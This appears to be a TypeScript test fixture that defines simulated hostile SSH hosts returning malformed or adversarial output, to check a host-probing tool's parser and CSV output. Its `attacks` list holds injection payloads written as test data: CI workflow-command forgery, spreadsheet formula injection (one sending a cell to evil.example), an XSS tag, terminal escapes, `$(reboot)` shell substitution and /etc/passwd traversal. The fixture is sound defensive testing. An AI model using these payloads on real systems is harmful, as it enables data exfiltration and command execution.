/** Hosts that log us in well, and answer the probe script with what no host would say. */
import { mark } from "../../../src/facts/answer.ts";
import { startSsh2 } from "../hostile-ssh.ts";
import type { HostileHost } from "./host.ts";

/** A well-behaved answer by key; a changed or added value may be several lines. */
const figures = {
  v: "1",
  mem: "MemAvailable:2097152 SwapFree:1048576",
  now: "1795390924",
  up: "7831.25",
  me: "127.0.0.1 51234 127.0.0.1 22",
  sockets: "proc",
  who: "asked",
  disk: "/dev/vda 100 50 10240000 50% /",
  end: "",
};

type Changes = Readonly<Record<string, string | readonly string[]>>;

export function answerWith(changes: Changes = {}): string {
  const said = Object.entries({ ...figures, ...changes }).sort(endLast);
  const lines = said.flatMap(([key, text]) => [text].flat().map((each) => `${mark}${key} ${each}`.trimEnd()));
  return `${lines.join("\n")}\n`;
}

/** The cells of `answerWith()`. */
export const answerCells = {
  mem_avail_mib: "2048",
  swap_free_mib: "1024",
  disk_avail_mib: "10000",
  last_boot: "2026-11-22T21:31Z",
  ports: "",
  ssh_peers: "",
  logins: "",
  errors: "",
} as const;

/** A host that prints a text and hangs up its channel. */
function printing(name: string, text: string | Buffer, cells: HostileHost["cells"], type?: "miner"): HostileHost {
  return {
    name,
    cells,
    start: () => startSsh2({ exec: (accept) => void accept().resume().end(text) }),
    ...(type && { type }),
  };
}

const spoilt = (...empty: readonly (keyof typeof answerCells)[]) => ({
  ...answerCells,
  ...Object.fromEntries(empty.map((column) => [column, ""])),
  errors: "probe:incomplete",
});

const nothing = spoilt("mem_avail_mib", "swap_free_mib", "disk_avail_mib", "last_boot");

/** Each of these would take effect somewhere: on a runner, in a spreadsheet, on GitHub, in a terminal, in a shell. */
export const attacks = [
  "::add-mask::well",
  "\r::error title=x::forged",
  "##[set-output name=up]0",
  "x\u2028::stop-commands::x",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)",
  '","=1+1",\n2026-01-01T00:00:00Z,web-1,0,0',
  "<img src=x onerror=alert(1)> [a](http://evil.example) @everyone #1 `code` | cell |",
  "\u001b]0;title\u0007\u001b[2J\u001b[31m",
  "\u202e\u2066\u200b",
  "$(reboot) `reboot` ; reboot #",
  "../../../../etc/passwd",
] as const;

const attackOnEveryKey = Object.fromEntries(Object.keys(figures).map((key) => [key, attacks.join(" ")]));

const users = ["::error::x", "##[error]x", "=1+1", "+1", "-1", "@x", '"a","b"', "<b>", "a|b", "`a`", "x[2J", "$(a)"];

/** The same with nothing that means anything elsewhere, once each, sorted. */
const safeUsers = [...new Set(users.map((user) => user.replace(/[^\w.-]/g, "_")))].sort();

export const answeringHosts: readonly HostileHost[] = [
  printing("says-nothing", "", { errors: "probe:incomplete" }),
  printing("has-no-shell", "This account is currently not available.\n", { errors: "probe:incomplete" }),
  printing("stops-half-way", answerWith().slice(0, 120), {
    mem_avail_mib: "2048",
    swap_free_mib: "1024",
    errors: "probe:incomplete",
  }),
  printing("speaks-another-version", answerWith({ v: "2" }), { ...nothing, errors: "probe:incomplete" }),
  printing("speaks-binary", Buffer.from(Array.from({ length: 65_536 }, (_, at) => (at * 7) % 256)), nothing),
  printing("has-noise-around", `\u0000\u001b[2J motd \r\n${answerWith()}::error::late\n`, answerCells),
  printing("has-nul-in-its-lines", answerWith().replaceAll(" ", " \u0000"), answerCells),
  printing("ends-its-lines-in-crlf", answerWith().replaceAll("\n", "\r\n"), answerCells),
  printing("ends-its-lines-in-cr", answerWith().replaceAll("\n", "\r"), nothing),
  printing("has-one-giant-line", `${mark}v 1 ${"x".repeat(200_000)}\n`, nothing),
  printing("says-it-twice", answerWith({ mem: [figures.mem, "MemAvailable:1 SwapFree:1"] }), {
    ...spoilt("mem_avail_mib", "swap_free_mib"),
  }),
  printing("forges-other-rows", `2026-01-01T00:00:00Z,web-1,0,0\n${mark}host web-1\n${answerWith()}`, answerCells),
  printing(
    "counts-below-zero",
    answerWith({ mem: "MemAvailable:-5 SwapFree:-1", up: "-1", disk: "/dev/vda 100 50 -9 50% /" }),
    { ...spoilt("mem_avail_mib", "swap_free_mib", "last_boot"), disk_avail_mib: "0" },
  ),
  printing(
    "counts-to-nan",
    answerWith({ mem: "MemAvailable:NaN SwapFree:Infinity", now: "NaN", disk: "/dev/vda 100 50 1e999 50% /" }),
    nothing,
  ),
  printing(
    "counts-beyond-all-machines",
    answerWith({
      mem: "MemAvailable:9999999999999 SwapFree:1e21",
      now: "999999999999",
      disk: `x 1 1 ${"9".repeat(40)} 1% /`,
    }),
    nothing,
  ),
  printing("has-port-0", answerWith({ listen: ["tcp 00000000:0000", "udp 00000000:0000"] }), answerCells),
  printing("has-port-70000", answerWith({ listen: "tcp 00000000:11170" }), spoilt()),
  printing("has-port-70000-by-netstat", answerWith({ sockets: "netstat", net: "tcp4 *.70000 *.* LISTEN" }), spoilt()),
  printing(
    "has-half-an-address",
    answerWith({ sockets: "netstat", net: "tcp4 10.0.0.1.22 1.2.3 ESTABLISHED" }),
    spoilt(),
  ),
  printing("has-an-address-of-letters", answerWith({ peer: "ZZ00000A" }), spoilt()),
  printing("has-5000-listeners", answerWith({ listen: many(5000, (at) => `tcp 00000000:${hex(at + 1)}`) }), spoilt()),
  printing("has-5000-peers", answerWith({ peer: many(5000, (at) => `0A00${hex(at)}`) }), spoilt()),
  printing("has-2000-logins", answerWith({ logins: many(2000, (at) => login(`u${at}`)) }), spoilt()),
  printing("attacks-with-every-fact", answerWith(attackOnEveryKey), nothing),
  printing("attacks-in-plain-text", `${attacks.join("\n")}\n${answerWith()}`, answerCells),
  printing("attacks-with-names", answerWith({ logins: users.map(login) }), {
    ...answerCells,
    // The quote keeps a spreadsheet from counting.
    logins: `'${safeUsers.map((user) => `${user}@203.0.113.9`).join("+")}`,
  }),
  printing(
    "logs-in-from-nowhere",
    answerWith({ logins: attacks.map((attack) => `al pts/3 Nov 22 23:53 (${attack})`) }),
    answerCells,
  ),
  printing(
    "attacks-with-cards",
    answerWith({ gpus: [...attacks, ...many(200, (at) => `${at}, 99999999, -1, =1+1`), "exit 0"] }),
    { mem_avail_mib: "2048", gpu_temp_c: Array.from({ length: 64 }, () => "None").join("_"), errors: "" },
    "miner",
  ),
];

function many(count: number, line: (at: number) => string): string[] {
  return Array.from({ length: count }, (_, at) => line(at));
}

function login(user: string): string {
  return `${user} pts/3 Nov 22 23:53 (203.0.113.9)`;
}

function hex(value: number): string {
  return value.toString(16).toUpperCase().padStart(4, "0");
}

function endLast([a]: readonly [string, unknown], [b]: readonly [string, unknown]): number {
  return Number(a === "end") - Number(b === "end");
}
